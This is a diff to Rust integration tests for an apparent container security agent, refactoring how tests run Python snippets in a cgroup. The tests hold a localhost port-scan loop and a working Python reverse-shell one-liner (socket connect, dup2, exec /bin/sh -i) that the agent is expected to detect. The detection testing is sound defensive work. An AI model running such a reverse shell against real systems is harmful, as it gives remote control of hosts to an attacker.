@@ -118,6 +118,20 @@ fn start_service(cg: &Cgroup, dir: &std::path::Path, backend: u16) -> Service {
     Service { child, port }
 }
 
+/// Runs `python3 -c program` in the cgroup `cg` (the shell moves itself
+/// there first) and waits for it to succeed.
+fn python_in(cg: &Cgroup, program: &str) {
+    let script = format!(
+        "echo $$ > {} && exec python3 -c '{program}'",
+        cg.procs_file().display()
+    );
+    let st = Command::new("/bin/sh")
+        .args(["-c", &script])
+        .status()
+        .expect("run python3");
+    assert!(st.success(), "{program}");
+}
+
 fn audits_in(cap: &Capture, scope: &fdr_agent::scope::Scope, after_seq: u64) -> Vec<Arc<Event>> {
     cap.recorded(|e| e.kind() == EventKind::Audit && &e.scope == scope && e.seq > after_seq)
 }
@@ -473,15 +487,7 @@ async fn refused_connects_to_many_ports_are_a_port_scan() {
     let scan = format!(
         "import socket\nfor p in [{list}]:\n    try:\n        socket.create_connection((\"127.0.0.1\", p)).close()\n    except ConnectionRefusedError:\n        pass\n"
     );
-    let script = format!(
-        "echo $$ > {} && exec python3 -c '{scan}'",
-        cg.procs_file().display()
-    );
-    let st = Command::new("/bin/sh")
-        .args(["-c", &script])
-        .status()
-        .expect("run the scan");
-    assert!(st.success());
+    python_in(&cg, &scan);
 
     let socket = cap.socket();
     let found = wait_until_async_incidents(&socket, &id, &["port-scan"]).await;
@@ -541,15 +547,7 @@ async fn a_shell_on_a_socket_its_process_connected_is_a_reverse_shell() {
     let one_liner = format!(
         "import socket, os; s = socket.create_connection((\"127.0.0.1\", {attacker})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\", \"-i\"])"
     );
-    let script = format!(
-        "echo $$ > {} && exec python3 -c '{one_liner}'",
-        cg.procs_file().display()
-    );
-    let st = Command::new("/bin/sh")
-        .args(["-c", &script])
-        .status()
-        .expect("run the one-liner");
-    assert!(st.success());
+    python_in(&cg, &one_liner);
     answer.join().expect("attacker thread");
 
     let scope = fdr_agent::scope::Scope::Container(id.as_str().into());
